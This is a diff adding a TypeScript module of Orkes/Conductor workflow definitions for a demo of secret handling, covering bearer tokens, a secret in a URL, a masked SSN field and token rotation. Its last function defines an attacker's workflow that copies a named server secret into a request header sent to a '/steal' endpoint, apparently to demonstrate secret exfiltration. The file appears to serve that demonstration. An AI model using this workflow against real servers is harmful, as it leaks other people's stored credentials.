@@ -1,0 +1,106 @@
+// The workflow definitions of the demo, as the documentation of Orkes and docs/workflows.md write them.
+import type { Json } from '../../src/commands/demo/pretty.ts';
+
+type Definition = { [name: string]: Json };
+
+/** The task definition of the worker. */
+export const LABEL_TASK = 'print_label';
+
+/** Returns a workflow definition. `more` contains additional fields. */
+function workflow(name: string, tasks: Definition[], more: Definition = {}): Definition {
+  return { name, version: 1, schemaVersion: 2, ownerEmail: 'demo@example.com', timeoutSeconds: 0, tasks, ...more };
+}
+
+function task(type: string, name: string, inputParameters: Definition, more: Definition = {}): Definition {
+  return { name, taskReferenceName: name, type, inputParameters, ...more };
+}
+
+const http = (name: string, request: Definition): Definition => task('HTTP', name, { http_request: request });
+
+export type WorkflowName = keyof ReturnType<typeof workflows>;
+
+export function workflows(target: string) {
+  return {
+    /** An HTTP task with a bearer token, as in the documentation of Orkes. */
+    sample_bearer: workflow('sample_bearer', [
+      http('call_api', {
+        uri: `${target}/api`,
+        method: 'GET',
+        headers: { Authorization: 'Bearer: ${workflow.secrets.sampletask-api-token}' },
+      }),
+    ]),
+
+    /** A secret in the address. The answer of the post office contains the address. */
+    post_office: workflow(
+      'post_office',
+      [
+        http('verify_address', {
+          uri: `${target}/ShippingAPI.dll?API=Verify&USERID=\${workflow.secrets.post_office_username}`,
+          method: 'GET',
+        }),
+      ],
+      { outputParameters: { answer: '${verify_address.output.response.body}' } },
+    ),
+
+    /** A task that a worker polls. */
+    label: workflow(
+      'label',
+      [task('SIMPLE', LABEL_TASK, { authorization: 'Bearer ${workflow.secrets.label_printer_token}' })],
+      { outputParameters: { printer: `\${${LABEL_TASK}.output.printer}` } },
+    ),
+
+    /** Data that people must not read, without secrets. */
+    customer: workflow(
+      'customer',
+      [
+        task('INLINE', 'write_letter', {
+          evaluatorType: 'graaljs',
+          expression: '(function () { return $.text; })()',
+          text: 'This is my SSN ${workflow.input.customer.ssn}',
+        }),
+      ],
+      { maskedFields: ['ssn'], outputParameters: { letter: '${write_letter.output.result}' } },
+    ),
+
+    /** The rotation of a token that expires, as in the documentation of Orkes. */
+    rotate_token: workflow('rotate_token', [
+      http('retrieve_token', {
+        uri: `${target}/token`,
+        method: 'POST',
+        body: { keyId: '${workflow.secrets.appKeyId}', keySecret: '${workflow.secrets.appKeySecret}' },
+        outputFilter: { _secrets: { token: '$${retrieve_token.output.response.body.token}' } },
+      }),
+      task('UPDATE_SECRET', 'store_token', {
+        _secrets: { secretKey: 'my_secret_holding_a_token', secretValue: '${retrieve_token.output._secrets.token}' },
+      }),
+    ]),
+
+    /** A task that uses the rotated token. */
+    list_parcels: workflow('list_parcels', [
+      http('list', {
+        uri: `${target}/parcels`,
+        method: 'GET',
+        headers: { Authorization: 'Bearer ${workflow.secrets.my_secret_holding_a_token}' },
+      }),
+    ]),
+
+    /** A task that sends input of the workflow, and a secret. */
+    greet: workflow('greet', [
+      http('greet', {
+        uri: `${target}/greet`,
+        method: 'GET',
+        headers: {
+          Authorization: 'Bearer ${workflow.secrets.sampletask-api-token}',
+          'X-Name': '${workflow.input.name}',
+        },
+      }),
+    ]),
+  } satisfies Record<string, Definition>;
+}
+
+/** The workflow definition of an attacker, who sends the definition with the request to start a workflow. */
+export function stealingWorkflow(target: string, secret: string): Definition {
+  return workflow('greet_all', [
+    http('steal', { uri: `${target}/steal`, method: 'GET', headers: { 'X-Name': `\${workflow.secrets.${secret}}` } }),
+  ]);
+}
